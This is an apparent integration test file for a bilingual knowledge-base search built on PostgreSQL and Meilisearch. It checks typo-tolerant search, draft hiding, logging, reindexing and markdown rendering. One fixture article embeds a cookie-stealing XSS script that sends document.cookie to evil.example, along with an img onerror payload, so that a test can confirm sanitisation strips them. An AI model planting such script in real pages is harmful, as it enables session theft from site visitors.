// Knowledge-base search against the real PostgreSQL and Meilisearch started
// by the global setup: a fresh database and an index prefix of our own.
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { freshDatabase, useTestRuntime, type TestDatabase } from "../support/services.ts";
import { forgetSingleton, runtimeSettings, setRuntimeSettings } from "../../server/runtime.ts";
import type { Tx } from "../../server/db/client.ts";
import { DomainError } from "../../server/errors.ts";
import { getArticle, listArticles } from "../../server/kb/articles.ts";
import { articlesIndexUid, meili, waitForTask } from "../../search/client.ts";
import {
  ensureSearchSettings,
  indexArticle,
  reindexAllArticles,
  reindexIfBehind,
  searchArticles,
  searchHealth,
} from "../../search/articles.ts";
import { searchIndex } from "../../server/listeners/search-index.ts";
import type { StoredEvent } from "../../server/events/types.ts";

let t: TestDatabase;

const articleChanged = (articleId: string): StoredEvent => ({
  id: 1n,
  txid: 1n,
  type: "article.changed",
  actorId: null,
  at: new Date(),
  data: { articleId },
});
let prefix: string;

/** Runs `fn` with the search client pointed at a port nothing listens on. */
async function withSearchDown<T>(fn: () => Promise<T>): Promise<T> {
  const settings = runtimeSettings();
  setRuntimeSettings({ ...settings, meiliUrl: "http://127.0.0.1:9" });
  try {
    return await fn();
  } finally {
    setRuntimeSettings(settings);
  }
}

async function article(data: {
  slug: string;
  locale: "en" | "zh-CN";
  title: string;
  body: string;
  tags?: string[];
  status?: "draft" | "published";
  category?: string;
}) {
  const { category, ...rest } = data;
  return t.db.article.create({
    data: {
      status: "published",
      ...rest,
      ...(category ? { category: { connect: { key: category } } } : {}),
    },
  });
}

beforeAll(async () => {
  t = await freshDatabase();
  prefix = useTestRuntime(t.url).searchIndexPrefix;
  forgetSingleton("db"); // the listener reads articles through the shared client

  await t.db.category.createMany({
    data: [
      { key: "account", nameEn: "Account", nameZh: "账户" },
      { key: "billing", nameEn: "Billing", nameZh: "账单" },
      { key: "shipping", nameEn: "Shipping", nameZh: "配送" },
    ],
  });
  await article({
    slug: "reset-password",
    locale: "en",
    category: "account",
    tags: ["account", "login"],
    title: "How to reset your password",
    body: "If you forgot your password, open the **sign-in page** and click *Forgot password*.\n\nWe email you a link that is valid for 30 minutes.",
  });
  await article({
    slug: "request-refund",
    locale: "en",
    category: "billing",
    tags: ["billing", "refund"],
    title: "Requesting a refund",
    body: "## Who can ask\n\nRefunds are issued to the original payment method within 5 business days after approval.\n\n1. Open **Orders**\n2. Choose *Request refund*",
  });
  await article({
    slug: "shipping-times",
    locale: "en",
    category: "shipping",
    tags: ["delivery"],
    title: "Shipping times",
    body: "Orders usually ship within 48 hours of payment. Remote areas can take longer.",
  });
  await article({
    slug: "loyalty-programme",
    locale: "en",
    status: "draft",
    title: "Loyalty programme launch",
    body: "Earn loyalty points on every order. Not announced yet.",
  });
  await article({
    slug: "reset-password",
    locale: "zh-CN",
    category: "account",
    tags: ["account", "登录"],
    title: "如何重置密码",
    body: "如果您忘记了密码，请打开**登录页面**并点击“忘记密码”。\n\n我们会向您的邮箱发送重置链接，链接三十分钟内有效。",
  });
  await article({
    slug: "request-refund",
    locale: "zh-CN",
    category: "billing",
    tags: ["billing", "refund"],
    title: "申请退款",
    body: "退款将在审核通过后五个工作日内退回到原支付方式。\n\n请在**订单**页面提交退款申请。",
  });
  await article({
    slug: "shipping-times",
    locale: "zh-CN",
    category: "shipping",
    tags: ["delivery"],
    title: "配送时间说明",
    body: "订单一般在付款后四十八小时内发货，偏远地区可能需要更长时间。",
  });
  await article({
    slug: "loyalty-programme",
    locale: "zh-CN",
    status: "draft",
    title: "会员积分计划",
    body: "每笔订单均可获得会员积分。尚未公布。",
  });
  await article({
    slug: "contact-us",
    locale: "en",
    title: "Contact us",
    body: [
      "## Opening hours",
      "",
      "We answer every day from 8:00 to 20:00.",
      "",
      "<script>document.location='https://evil.example/?c='+document.cookie</script>",
      '<img src="x" onerror="alert(1)">',
      "",
      "See the [status page](https://status.example.com).",
    ].join("\n"),
  });

  await ensureSearchSettings();
  await reindexAllArticles(t.db);
});

afterAll(async () => {
  if (prefix) {
    const { results } = await meili().getRawIndexes({ limit: 1000 });
    for (const index of results.filter((i) => i.uid.startsWith(prefix))) await waitForTask(meili().deleteIndex(index.uid));
  }
  await t?.drop();
});

describe("searching", () => {
  test("an English query with a typo finds the right English article first", async () => {
    const password = await searchArticles({ query: "pasword reset", locale: "en" }, t.db);
    expect(password.hits[0]).toMatchObject({ slug: "reset-password", locale: "en", title: "How to reset your password" });

    const refund = await searchArticles({ query: "refnud", locale: "en" }, t.db);
    expect(refund.hits[0]).toMatchObject({ slug: "request-refund", locale: "en" });
    expect(refund.hits[0].excerpt).toMatch(/^Who can ask Refunds are issued/);
    // The snippet is HTML with the match marked (the typo still matches "Refunds").
    expect(refund.hits[0].highlight).toMatch(/<mark>Refund<\/mark>/);
  });

  test("a Chinese query finds the zh-CN article that contains it", async () => {
    const refund = await searchArticles({ query: "退款", locale: "zh-CN" }, t.db);
    expect(refund.hits[0]).toMatchObject({ slug: "request-refund", locale: "zh-CN", title: "申请退款" });
    expect(refund.hits[0].highlight).toContain("<mark>退款</mark>");

    const password = await searchArticles({ query: "重置密码", locale: "zh-CN" }, t.db);
    expect(password.hits[0]).toMatchObject({ slug: "reset-password", locale: "zh-CN" });

    // A word that only occurs in the body, with no locale given.
    const shipping = await searchArticles({ query: "发货" }, t.db);
    expect(shipping.hits.map((h) => [h.slug, h.locale])).toEqual([["shipping-times", "zh-CN"]]);

    const passwordAnyLocale = await searchArticles({ query: "密码" }, t.db);
    expect(passwordAnyLocale.hits[0]).toMatchObject({ slug: "reset-password", locale: "zh-CN" });
  });

  test("drafts never appear", async () => {
    for (const query of ["loyalty", "loyalty programme", "会员积分", "积分"]) {
      for (const locale of ["en", "zh-CN", undefined] as const) {
        const result = await searchArticles({ query, locale }, t.db);
        expect(result, `${query} / ${locale}`).toEqual({ hits: [], total: 0, hasMore: false });
      }
    }
  });

  test("the reader's locale comes first, other locales only when it has nothing", async () => {
    // Both refund articles carry the tag "refund": each reader sees their own.
    const zh = await searchArticles({ query: "refund", locale: "zh-CN" }, t.db);
    expect(zh.hits.map((h) => h.locale)).toEqual(["zh-CN"]);
    expect(zh.hits[0].slug).toBe("request-refund");
    const en = await searchArticles({ query: "refund", locale: "en" }, t.db);
    expect(en.hits.map((h) => h.locale)).toEqual(["en"]);

    // No English article says 退款, so an English reader gets the Chinese one.
    const fallback = await searchArticles({ query: "退款", locale: "en" }, t.db);
    expect(fallback.hits[0]).toMatchObject({ slug: "request-refund", locale: "zh-CN" });

    // Without a locale, both languages.
    const all = await searchArticles({ query: "refund" }, t.db);
    expect(all.hits.map((h) => h.locale).sort()).toEqual(["en", "zh-CN"]);
  });

  test("limit caps the hits but not the total", async () => {
    const result = await searchArticles({ query: "refund", limit: 1 }, t.db);
    expect(result.hits).toHaveLength(1);
    expect(result.total).toBe(2);
  });

  test("each search is recorded in SearchLog, including ones that found nothing", async () => {
    const user = await t.db.user.create({
      data: { email: "li.wei@example.com", name: "Li Wei", passwordHash: "x", role: "customer", locale: "zh-CN" },
    });
    const none = await searchArticles({ query: "  warp drive calibration ", locale: "en", userId: user.id }, t.db);
    expect(none).toEqual({ hits: [], total: 0, hasMore: false });
    const found = await searchArticles({ query: "发货" }, t.db);

    const logged = await t.db.searchLog.findMany({ where: { query: { in: ["warp drive calibration", "发货"] } } });
    expect(logged).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ query: "warp drive calibration", locale: "en", resultCount: 0, userId: user.id }),
        expect.objectContaining({ query: "发货", locale: "all", resultCount: found.total, userId: null }),
      ]),
    );
    expect(found.total).toBe(1);
  });

  test("offset pages through the hits; only the first page counts as a search", async () => {
    const before = await t.db.searchLog.count();
    const first = await searchArticles({ query: "refund", limit: 1 }, t.db);
    const second = await searchArticles({ query: "refund", limit: 1, offset: 1 }, t.db);
    expect(first.hasMore).toBe(true);
    expect(second.hits).toHaveLength(1);
    expect(second.hits[0].id).not.toBe(first.hits[0].id);
    expect(second.hasMore).toBe(false);
    expect(await t.db.searchLog.count()).toBe(before + 1);
  });

  test("an empty query returns nothing without asking Meilisearch or logging", async () => {
    const before = await t.db.searchLog.count();
    // With search unreachable, any call to Meilisearch would throw.
    const result = await withSearchDown(() => searchArticles({ query: "   ", locale: "en" }, t.db));
    expect(result).toEqual({ hits: [], total: 0, hasMore: false });
    expect(await t.db.searchLog.count()).toBe(before);
  });

  test("a failure to record the search does not fail it", async () => {
    const warn = vi.spyOn(console, "warn").mockImplementation(() => {});
    try {
      const brokenDb = {
        searchLog: { create: () => Promise.reject(new Error("connection terminated")) },
      } as unknown as Tx;
      const result = await searchArticles({ query: "shipping", locale: "en" }, brokenDb);
      expect(result.hits[0]).toMatchObject({ slug: "shipping-times", locale: "en" });
      expect(warn).toHaveBeenCalledWith(expect.stringContaining("could not record"), "connection terminated");
    } finally {
      warn.mockRestore();
    }
  });

  test("bad input is rejected as a validation error", async () => {
    await expect(searchArticles({ query: "x".repeat(201) }, t.db)).rejects.toMatchObject({
      code: "validation_failed",
      details: { query: ["validation.query"] },
    });
    await expect(searchArticles({ query: "refund", locale: "fr" as "en" }, t.db)).rejects.toBeInstanceOf(DomainError);
    // 200 characters is still fine.
    await expect(searchArticles({ query: "x".repeat(200) }, t.db)).resolves.toEqual({ hits: [], total: 0, hasMore: false });
  });

  test("searchHealth reports up, and down quickly when the server is unreachable", async () => {
    expect(await searchHealth()).toBe("up");
    const started = Date.now();
    expect(await withSearchDown(() => searchHealth())).toBe("down");
    expect(Date.now() - started).toBeLessThan(2000);
  });
});

describe("indexing", () => {
  test("indexArticle makes an edited title searchable, and removes a deleted article", async () => {
    const shipping = await t.db.article.findUniqueOrThrow({ where: { slug_locale: { slug: "shipping-times", locale: "en" } } });
    expect((await searchArticles({ query: "tracking", locale: "en" }, t.db)).hits).toEqual([]);

    await t.db.article.update({ where: { id: shipping.id }, data: { title: "Delivery times and tracking" } });
    await indexArticle(shipping.id, t.db);
    const afterEdit = await searchArticles({ query: "tracking", locale: "en" }, t.db);
    expect(afterEdit.hits).toEqual([expect.objectContaining({ id: shipping.id, title: "Delivery times and tracking" })]);

    await t.db.article.delete({ where: { id: shipping.id } });
    await indexArticle(shipping.id, t.db);
    expect((await searchArticles({ query: "tracking" }, t.db)).hits).toEqual([]);
    expect((await searchArticles({ query: "remote areas" }, t.db)).hits).toEqual([]);
  });

  test("unpublishing an article hides it from search", async () => {
    const zh = await t.db.article.findUniqueOrThrow({ where: { slug_locale: { slug: "shipping-times", locale: "zh-CN" } } });
    await t.db.article.update({ where: { id: zh.id }, data: { status: "draft" } });
    await indexArticle(zh.id, t.db);
    expect((await searchArticles({ query: "发货" }, t.db)).hits).toEqual([]);
  });

  test("the search-index listener indexes changed articles", async () => {
    const created = await article({
      slug: "change-email",
      locale: "en",
      category: "account",
      title: "Changing your email address",
      body: "Go to **Profile** and enter the new address. We send a confirmation message.",
    });
    const ids = async (query: string) => (await searchArticles({ query, locale: "en" }, t.db)).hits.map((h) => h.id);
    expect(await ids("email address")).not.toContain(created.id);

    await searchIndex.handle([articleChanged(created.id)]);
    const result = await searchArticles({ query: "emial adress", locale: "en" }, t.db);
    expect(result.hits[0]).toMatchObject({ id: created.id, slug: "change-email" });
  });

  test("indexing throws when Meilisearch is unreachable, so the listener retries", async () => {
    const any = await t.db.article.findFirstOrThrow();
    await withSearchDown(async () => {
      await expect(indexArticle(any.id, t.db)).rejects.toThrow();
      await expect(searchIndex.handle([articleChanged(any.id)])).rejects.toThrow();
      await expect(reindexAllArticles(t.db)).rejects.toThrow();
    });
  });

  test("reindexAllArticles rebuilds from PostgreSQL and swaps the result in", async () => {
    const live = meili().index(articlesIndexUid());
    // A document PostgreSQL doesn't know about (e.g. a missed delete) …
    await waitForTask(
      live.addDocuments([
        { id: "ghost", slug: "ghost", locale: "en", title: "Ghost article", body: "boo", excerpt: "boo", tags: [], category: null, status: "published", updatedAt: 0 },
      ]),
    );
    expect((await searchArticles({ query: "ghost" }, t.db)).hits).toHaveLength(1);

    const { indexed } = await reindexAllArticles(t.db);
    const articles = await t.db.article.count();
    expect(indexed).toBe(articles);
    // … is gone after the rebuild, and everything else is there (drafts too, filtered at query time).
    expect((await searchArticles({ query: "ghost" }, t.db)).hits).toEqual([]);
    expect((await live.getStats()).numberOfDocuments).toBe(articles);
    expect((await searchArticles({ query: "pasword reset", locale: "en" }, t.db)).hits[0].slug).toBe("reset-password");

    // Settings came along with the swap, and no temporary index is left over.
    const settings = await live.getSettings();
    expect(settings.searchableAttributes).toEqual(["title", "tags", "body"]);
    expect([...(settings.filterableAttributes ?? [])].sort()).toEqual(["category", "locale", "status"]);
    expect(settings.sortableAttributes).toEqual(["updatedAt"]);
    const { results } = await meili().getRawIndexes({ limit: 1000 });
    expect(results.map((i) => i.uid).filter((uid) => uid.startsWith(prefix))).toEqual([articlesIndexUid()]);
  });

  test("at start-up the index is rebuilt only when it lacks articles", async () => {
    await reindexAllArticles(t.db);
    expect(await reindexIfBehind(t.db)).toBeNull();

    // The search server lost its data: the next start rebuilds.
    await waitForTask(meili().index(articlesIndexUid()).deleteAllDocuments());
    const rebuilt = await reindexIfBehind(t.db);
    expect(rebuilt?.indexed).toBe(await t.db.article.count());
    expect((await searchArticles({ query: "pasword reset", locale: "en" }, t.db)).hits[0].slug).toBe("reset-password");
  });
});

describe("article pages", () => {
  test("rendered markdown has no script or event handlers, and links get rel=noopener", async () => {
    const page = await getArticle(t.db, "contact-us", "en");
    expect(page).not.toBeNull();
    expect(page!.html).toContain("<h2>Opening hours</h2>");
    expect(page!.html).toContain('<a href="https://status.example.com" rel="noopener noreferrer">status page</a>');
    expect(page!.html).not.toMatch(/<script|document\.cookie|onerror=|<img/i);
  });

  test("drafts and missing translations read as not found", async () => {
    expect(await getArticle(t.db, "loyalty-programme", "en")).toBeNull();
    expect(await getArticle(t.db, "contact-us", "zh-CN")).toBeNull();
    expect(await getArticle(t.db, "reset-password", "zh-CN")).toMatchObject({
      title: "如何重置密码",
      category: { key: "account", nameZh: "账户" },
    });
  });

  test("listArticles lists the published articles of one locale", async () => {
    const zh = await listArticles(t.db, { locale: "zh-CN" });
    expect(zh.map((a) => a.slug).sort()).toEqual(["request-refund", "reset-password"]);
    expect(zh.every((a) => a.locale === "zh-CN")).toBe(true);
    expect(zh.find((a) => a.slug === "request-refund")!.excerpt).toBe(
      "退款将在审核通过后五个工作日内退回到原支付方式。 请在订单页面提交退款申请。",
    );
  });
});
